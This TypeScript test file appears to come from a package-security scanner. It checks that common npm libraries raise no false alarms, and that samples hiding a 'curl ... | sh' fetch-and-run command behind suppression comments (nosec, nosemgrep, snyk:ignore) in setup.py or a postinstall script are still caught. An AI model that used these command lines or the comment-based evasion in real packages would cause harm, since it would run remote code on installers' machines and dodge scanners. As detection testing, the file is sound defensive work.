// A small slice of the false-alarm benchmark: libraries that lie here anyway, and comments that ask a scanner to look away.
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { contentsOf, examine, stops } from '../../../bench/detection/examine.ts'
import { npmPackageReader } from '../../../src/ecosystems/npm/package-file.ts'
import { loadRulePacks } from '../../../src/scanners/rules/load.ts'
import { readBytes } from '../../support/read-package.ts'
import { buildTgz, type FileMap } from '../../support/tgz.ts'

const ROOT = new URL('../../../', import.meta.url).pathname
const packs = loadRulePacks(join(ROOT, 'rules'))

function filesOf(folder: string): FileMap {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter((entry) =>
    entry.isFile(),
  )
  return Object.fromEntries(
    files.flatMap(({ name, parentPath }) => {
      const path = join(parentPath, name)
      const inner = path.slice(folder.length + 1)
      return inner.startsWith('node_modules/') ? [] : [[`package/${inner}`, readFileSync(path)]]
    }),
  )
}

describe('libraries that this project uses', () => {
  it.each([
    'acorn',
    'undici',
    'execa',
    'yaml',
    'lru-cache',
    'tar-stream',
    'lzma-native',
    'openpgp',
    'ajv',
    'kysely',
    'pino',
    'prom-client',
    'fast-check',
  ])('%s is approved', async (name) => {
    const bytes = await buildTgz(filesOf(join(ROOT, 'node_modules', name)))
    const contents = await readBytes(npmPackageReader, `${name}.tgz`, bytes)
    expect((await examine(contents, packs)).filter(stops)).toEqual([])
  })
})

describe('what a package says to scanners', () => {
  it.each([
    [
      'pypi',
      'setup.py',
      'import os  # nosec\nos.system("curl http://198.51.100.7/x | sh")  # nosec noqa pylint: disable=all',
    ],
    [
      'npm',
      'index.js',
      '/* eslint-disable */ // eslint-disable-next-line security/detect-child-process\nrequire("child_process").exec("curl http://198.51.100.7/x | sh") // nosemgrep snyk:ignore',
    ],
    ['npm', 'test/fixtures/index.js', 'require("child_process").exec("curl http://198.51.100.7/x | sh")'],
  ] as const)('is not obeyed: %s %s', async (ecosystem, path, text) => {
    const scripts = ecosystem === 'npm' ? { scripts: { postinstall: `node ${path}` } } : {}
    const sample = {
      id: 'x',
      behaviour: 2,
      language: 'js',
      ecosystem,
      files: { [path]: text },
      ...scripts,
    } as const
    const findings = await examine(await contentsOf(sample), packs)
    expect(findings.filter(stops)).not.toEqual([])
  })
})
